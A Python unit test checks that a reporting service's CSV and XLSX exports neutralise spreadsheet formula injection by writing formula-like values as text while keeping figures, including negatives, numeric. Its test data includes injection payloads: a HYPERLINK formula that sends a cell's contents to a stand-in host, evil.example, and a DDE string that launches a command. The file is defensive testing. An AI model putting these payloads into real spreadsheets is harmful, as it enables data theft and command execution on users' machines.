"""The CSV and XLSX exports of a summary: an occasion typed as a formula is written as text in
both, and every figure, negative changes included, stays a number."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date

from openpyxl import load_workbook

from common.law.cycles import DEFAULT_CONFERENCES, ConferenceCalendar
from services.reporting.domain import aggregation as agg
from services.reporting.domain.summary import CycleCounts, DatedFigures, build_summary
from services.reporting.exports.tabular import to_csv, to_xlsx
from tests.unit.reporting.test_aggregation import SIGNED

HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")': "'",
    "+1+cmd|' /C calc'!A0": "'",
    "-2+3": "'",
    "@SUM(A1:A9)": "'",
    "\t=1+1": "'",
    "-5": "",  # a number written as text is left alone
}


def _counts(rows: list[agg.Contribution], cycle: int) -> dict[tuple[str, str], int]:
    out: dict[tuple[str, str], int] = {}
    for c, _, d, k in rows:
        if c == cycle:
            out[(d, k)] = out.get((d, k), 0) + 1
    return out


def summary() -> dict[str, object]:
    calendar = ConferenceCalendar(DEFAULT_CONFERENCES)
    today = date(2026, 1, 1)
    now = [c for o in HOSTILE for c in agg.agreement_contributions(replace(SIGNED, occasion=o))]
    # More agreements in the previous cycle: the changes are negative numbers.
    before = [
        c
        for i in range(3 * len(HOSTILE))
        for c in agg.agreement_contributions(
            replace(SIGNED, signed_cycle=20, pipeline_cycle=20, occasion=f"Dịp {i}")
        )
    ]
    return build_summary(
        cycle=calendar.cycle(21, today),  # type: ignore[arg-type]
        previous_cycle=calendar.cycle(20, today),
        current=CycleCounts(_counts(now, 21), DatedFigures(copies_not_yet_due=0)),
        previous=CycleCounts(_counts(before, 20), DatedFigures()),
        countries_before_previous={"KR"},
        filters={"occasion_note": "=1+1"},
        as_of=today,
        lang="vi",
    )


def test_the_csv_writes_formula_like_occasions_as_text_and_figures_as_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(summary(), "vi").decode("utf-8-sig"))))
    labels = {row[2] for row in rows[1:]}
    for occasion, prefix in HOSTILE.items():
        assert prefix + occasion in labels, occasion
    assert not any(c.startswith(("=", "+", "@", "\t")) for row in rows for c in row)
    changes = [float(row[6]) for row in rows[1:] if row[6]]
    assert min(changes) < 0  # "-12" stays a number, not "'-12"


def test_the_xlsx_has_no_formula_cell_and_keeps_figures_numeric() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(summary(), "vi")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for occasion, prefix in HOSTILE.items():
        assert prefix + occasion in texts, occasion
    assert "'=1+1" in texts  # the filters too
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert any(isinstance(n, int | float) and n < 0 for n in numbers)
